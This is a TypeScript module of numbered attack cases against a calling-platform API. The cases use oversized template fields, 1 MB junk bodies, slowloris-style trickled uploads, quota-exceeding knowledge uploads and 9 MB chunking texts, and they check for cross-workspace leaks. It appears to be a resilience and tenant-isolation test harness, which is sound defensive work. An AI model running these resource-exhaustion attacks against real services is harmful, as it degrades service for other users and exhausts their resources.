import { connect, type Socket } from 'node:net';
import { FormData } from 'undici';
import { otherUpload, repeated, request, sleep, type Attack, type Target } from './attack.ts';

const edit = (target: Target, body: Record<string, unknown>, stop: AbortSignal) =>
  request(target, target.key, 'PATCH', '/api/v0/agent/v1', {
    body: { agent_id: target.agentId, ...body },
    stop,
  });

const templates: Attack = {
  id: '2.2',
  name: 'tool templates of {{ and 4,000 blanks in 50 fields, saved and used in calls',
  async run(target, report, stop) {
    const blanks = `{{${' '.repeat(3_990)}`;
    const tool = {
      type: 'API_TOOL',
      name: 'look_up',
      method: 'POST',
      url: 'http://127.0.0.1:9/x',
      timeout_seconds: 1,
      body: Object.fromEntries(Array.from({ length: 50 }, (_, n) => [`f${n}`, blanks])),
    };
    await repeated(700, stop, async () => {
      const saved = await edit(target, { operation: 'edit_pre_call_tools', pre_call_tools: [tool] }, stop);
      report.answer(`saved ${saved.status}`);
      const placed = await request(target, target.key, 'POST', '/api/v0/calling/outbound/individual', {
        body: {
          name: 'Sam',
          mobile_number: '+14155550002',
          agent_id: target.agentId,
          from_number: target.testNumber,
          call_config: { call_retry_config: { retry_count: 0 } },
        },
        stop,
      });
      report.answer(`call ${placed.status}`);
      report.sent += 2;
    });
    await request(target, target.key, 'PATCH', '/api/v0/agent/v1', {
      body: { agent_id: target.agentId, operation: 'edit_pre_call_tools', pre_call_tools: [] },
    });
  },
};

const zeroes = JSON.stringify({ mobile_numbers: Array.from({ length: 450_000 }, () => 0) });
const unknown = JSON.stringify(
  Object.fromEntries(Array.from({ length: 45_000 }, (_, n) => [`unknown${n}`, 0])),
);

const wrongValues: Attack = {
  id: '2.3',
  name: '1 MB bodies of wrong values, 5 a second',
  async run(target, report, stop) {
    let turn = 0;
    await repeated(200, stop, async () => {
      const body = (turn += 1) % 2 === 0 ? zeroes : unknown;
      const { status } = await request(target, target.key, 'POST', '/api/v0/dnc', { body, stop });
      report.answer(status);
      report.sent += 1;
    });
  },
};

const uploadForm = (): FormData => {
  const form = new FormData();
  form.append('kb_name', 'Terms');
  form.append('files', new Blob(['A visit costs forty dollars.']), 'a.txt');
  return form;
};

const trickles: Attack = {
  id: '2.5',
  name: 'eight trickled uploads of one workspace',
  async run(target, report, stop) {
    const port = Number(new URL(target.url).port);
    const held: Socket[] = [];
    let turn = 0;
    const open = (): Socket => {
      const socket = connect(port, '127.0.0.1');
      socket.on('error', () => undefined);
      socket.on('data', (data: Buffer) => report.answer(data.toString('latin1').slice(9, 12)));
      socket.write(
        `POST /api/v0/external/kb HTTP/1.1\r\nHost: a\r\nX-API-KEY: ${target.key}\r\nContent-Type: multipart/form-data; boundary=e\r\nContent-Length: 900000\r\n\r\n--e\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n\r\nA`,
      );
      report.sent += 1;
      return socket;
    };
    await repeated(500, stop, async () => {
      for (let n = 0; n < 8; n += 1) {
        if (held[n]?.destroyed !== false) held[n] = open();
        else held[n]?.write('a');
      }
      // Now and then: the other workspace reads its own files one after another.
      if ((turn += 1) % 4 !== 1) return;
      const other = await otherUpload(target, uploadForm(), stop);
      report.answer(`other workspace ${other.status}`);
      if (other.status === 200) {
        await request(target, target.otherKey, 'DELETE', `/api/v0/external/kb/${other.body.kb_id}`, { stop });
      } else if (other.status !== 0) report.leak(`the upload of another workspace got ${other.status}`);
    });
    for (const socket of held) socket.destroy();
  },
};

const MB = 1_000_000;

const storage: Attack = {
  id: '2.9',
  name: 'knowledge beyond the quota, and contact lists for an unknown agent',
  async run(target, report, stop) {
    const made: string[] = [];
    const text = 'A visit costs forty dollars and takes an hour. '.repeat(Math.ceil((4 * MB) / 47));
    await repeated(1_500, stop, async () => {
      const form = new FormData();
      form.append('kb_name', 'Heap');
      form.append('files', new Blob([text]), 'a.txt');
      const { status, body } = await request(target, target.key, 'POST', '/api/v0/external/kb', {
        form,
        stop,
      });
      report.answer(`knowledge ${status}`);
      if (status === 200) made.push(String(body.kb_id));
      const list = new FormData();
      list.append('agent_id', '00000000-0000-4000-8000-000000000000');
      list.append('campaign_name', 'Heap');
      list.append('file', new Blob([`name,mobile_number\n${'Sam,+14155550123\n'.repeat(100_000)}`]), 'a.csv');
      const refused = await request(target, target.key, 'POST', '/api/v0/campaign/upload-csv', {
        form: list,
        stop,
      });
      report.answer(`list ${refused.status}`);
      if (refused.status === 200) report.leak('a list for an unknown agent was stored');
      report.sent += 2;
    });
    for (const id of made) await request(target, target.key, 'DELETE', `/api/v0/external/kb/${id}`);
  },
};

const chunks: Attack = {
  id: '2.6',
  name: 'texts of 9 MB that are cut into chunks',
  async run(target, report, stop) {
    const text = Array.from(
      { length: 90_000 },
      (_, n) => `Paragraph ${n}: a visit costs forty dollars, and it takes an hour or more.\n\n`,
    )
      .join('')
      .slice(0, 9 * MB);
    await repeated(2_500, stop, async () => {
      const form = new FormData();
      form.append('kb_name', 'Long');
      form.append('files', new Blob([text]), 'long.md');
      const { status, body } = await request(target, target.key, 'POST', '/api/v0/external/kb', {
        form,
        stop,
      });
      report.answer(status);
      report.sent += 1;
      await sleep(2_000, stop);
      if (status === 200) await request(target, target.key, 'DELETE', `/api/v0/external/kb/${body.kb_id}`);
    });
  },
};

export const tenantBodies: readonly Attack[] = [templates, wrongValues, trickles, chunks, storage];
